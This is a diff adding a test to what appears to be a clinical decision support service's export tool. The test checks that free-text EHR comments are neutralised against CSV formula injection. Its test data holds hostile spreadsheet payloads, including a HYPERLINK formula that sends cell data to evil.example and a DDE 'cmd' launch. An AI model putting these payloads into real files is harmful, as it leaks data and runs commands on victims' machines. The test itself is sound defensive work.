@@ -78,3 +78,20 @@ def test_export_errors(tmp_path: Path, tmp_db: str) -> None:
     assert unwritable.returncode == 1 and "cannot write" in unwritable.stderr
     empty = export(database=tmp_db)
     assert empty.returncode == 0 and empty.stdout.startswith("id,service,rule,card,outcome")
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(live: Any, discovery: dict[str, Any], tmp_db: str) -> None:
+    """A comment typed in the EHR is free text: in CSV a cell starting with = + - @ would run as a
+    formula in the spreadsheet a quality officer opens it in (OWASP "CSV injection"). JSON keeps it."""
+    comments = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+                "\tindented", "fine, \"quoted\"\nover two lines"]
+    with live() as url:
+        sent = []
+        for comment in comments:
+            sid, answer = call(url, "pub-max-dose", discovery, hook_instance=os.urandom(8).hex())
+            card = answer["cards"][0]
+            sent.append(item(card, overrideReason={"reason": card["overrideReasons"][0], "userComment": comment}))
+        assert httpx.post(f"{url}/cds-services/{sid}/feedback", json={"feedback": sent}).status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export("--format", "csv", database=tmp_db).stdout)))
+    assert [r["userComment"] for r in rows] == ["'" + c for c in comments[:5]] + [comments[5]]
+    assert [r["userComment"] for r in json.loads(export("--format", "json", database=tmp_db).stdout)] == comments
